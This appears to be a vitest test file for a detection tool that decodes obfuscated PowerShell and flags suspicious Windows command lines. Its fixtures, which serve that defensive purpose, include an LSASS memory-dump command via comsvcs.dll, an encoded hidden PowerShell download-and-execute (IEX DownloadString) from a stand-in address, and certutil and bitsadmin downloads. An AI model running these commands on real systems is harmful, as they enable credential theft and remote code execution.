import { describe, expect, it } from "vitest";
import type { Alert } from "../model/alert.ts";
import { makeEve, makeProcess } from "../testing/make-alert.ts";
import { evidenceOf, findingIds, run } from "../testing/run-analyser.ts";
import { commandLineAnalyser } from "./command-line-analyser.ts";
import { decodeCommand } from "./decode-command.ts";
import { extractUrls, hasAddressHost } from "./extract-urls.ts";

/** Base64 of UTF-16LE, as -EncodedCommand takes it. */
function encode(text: string): string {
  return btoa(
    [...text].map((char) => String.fromCharCode(char.charCodeAt(0) & 255, char.charCodeAt(0) >> 8)).join(""),
  );
}

function analyse(...alerts: readonly Alert[]) {
  return run(commandLineAnalyser, alerts);
}

describe("decodeCommand", () => {
  it.each(["-e", "-ec", "-enc", "-EncodedCommand", "/enc", "-encod"])(
    "takes %s for the encoded command",
    (parameter) => {
      expect(decodeCommand(`powershell ${parameter} ${encode("Get-Process | Out-Null")}`)).toEqual([
        { method: "encoded-command", text: "Get-Process | Out-Null" },
      ]);
    },
  );

  it("decodes layer after layer", () => {
    const inner = `powershell -enc ${encode("iwr https://files.example.com/x")}`;
    const outer = `powershell -enc ${encode(inner)}`;
    expect(decodeCommand(outer).map((layer) => layer.text)).toEqual([
      inner,
      "iwr https://files.example.com/x",
    ]);
  });

  it("decodes FromBase64String in either encoding", () => {
    expect(
      decodeCommand(
        `[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${btoa("echo hello")}'))`,
      )[0]?.text,
    ).toBe("echo hello");
    expect(decodeCommand(`FromBase64String("${encode("echo hello")}")`)[0]?.text).toBe("echo hello");
  });

  it.each([
    "powershell -File C:\\scripts\\nightly.ps1",
    "powershell -ExecutionPolicy Bypass -File x.ps1",
    "powershell -ep RemoteSigned -Command Get-Date",
    "tar -e aaaaaaaaaaaaaaaaaaaaaaaa",
    `powershell -enc ${btoa("\u0001\u0002\u0003\u0004\u00ff\u00fe\u0081\u0090\u0000\u0001")}`,
  ])("finds nothing hidden in %s", (command) => {
    expect(decodeCommand(command)).toEqual([]);
  });

  it("stops at a bound on layers", () => {
    let command = "Write-Host end";
    for (let i = 0; i < 9; i++) command = `powershell -enc ${encode(command)}`;
    expect(decodeCommand(command).length).toBe(6);
  });
});

describe("extractUrls", () => {
  it("finds each once, without what surrounds it", () => {
    expect(
      extractUrls("('http://a.example.com/x'); see https://b.example.com/y?z=1. http://a.example.com/x"),
    ).toEqual(["http://a.example.com/x", "https://b.example.com/y?z=1"]);
    expect(extractUrls("nothing c:\\http\\x")).toEqual([]);
    expect(hasAddressHost("http://192.0.2.1:8080/x")).toBe(true);
    expect(hasAddressHost("http://192.0.2.1.example.com/x")).toBe(false);
  });
});

describe("commandLineAnalyser", () => {
  it("cites the command of a memory dump", () => {
    const alert = makeProcess(
      "rundll32.exe C:\\Windows\\System32\\comsvcs.dll MiniDump 612 C:\\Temp\\x.dmp full",
    );
    const [finding] = analyse(alert).findings;
    expect(finding).toMatchObject({ id: "lsass-dump-comsvcs", severity: "critical", technique: "T1003.001" });
    expect(finding?.citations).toEqual([
      { alertHash: alert.hash, field: "CommandLine", excerpt: alert.fields.CommandLine },
    ]);
  });

  it("cites the address of a download", () => {
    const alert = makeProcess("bitsadmin /transfer j /download https://files.example.com/tool.exe C:\\x.exe");
    const finding = analyse(alert).findings.find((each) => each.id.startsWith("url:"));
    expect(finding?.detail).toBe("https://files.example.com/tool.exe");
    expect(finding?.citations[0]?.excerpt).toContain("https://files.example.com/tool.exe");
  });

  it("looks inside what was encoded", () => {
    const hidden = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.9/a')";
    const ids = findingIds(analyse(makeProcess(`powershell -nop -w hidden -enc ${encode(hidden)}`)));
    expect(ids).toEqual(
      expect.arrayContaining([
        "powershell-encoded",
        "encoded-command",
        "powershell-download",
        "url:http://192.0.2.9/a",
        "hidden-command",
      ]),
    );
  });

  it("tells the same command once, with every record of it counted once", () => {
    const alerts = Array.from({ length: 50 }, () =>
      makeProcess("certutil -urlcache -f http://192.0.2.9/a a"),
    );
    expect(analyse(...alerts).findings.filter((finding) => finding.id === "certutil-download")).toHaveLength(
      1,
    );
  });

  it.each([
    "notepad.exe notes.txt",
    "powershell -File x.ps1",
    "bitsadmin /list",
    "powershell -NoProfile -Command Get-Date",
  ])("finds nothing in %s", (command) => {
    expect(analyse(makeProcess(command)).findings).toEqual([]);
  });

  it("says so where there are no command lines", () => {
    expect(commandLineAnalyser.analyse(evidenceOf([makeEve()]))).toEqual({
      analyser: "command-line",
      summary: "The evidence contains no command lines.",
      findings: [],
    });
  });

  it("stays fast on text made to be slow", () => {
    const parts = [
      "FromBase64String('AAAA",
      "powershell -e AAAAAAAA ",
      "http://",
      "'+'",
      "[char]1+",
      ".replace(",
      "-join [-1 ",
      "a^",
      " -w ",
    ];
    // Processor time, which other work of the machine does not lengthen.
    const before = process.cpuUsage();
    analyse(...parts.map((part) => makeProcess(part.repeat(3000))));
    // Blanks that a pattern could share out in many ways.
    analyse(makeProcess(`${`[char]1${" ".repeat(300)}`.repeat(3)}x`));
    expect(process.cpuUsage(before).user).toBeLessThan(2_000_000);
  });
});
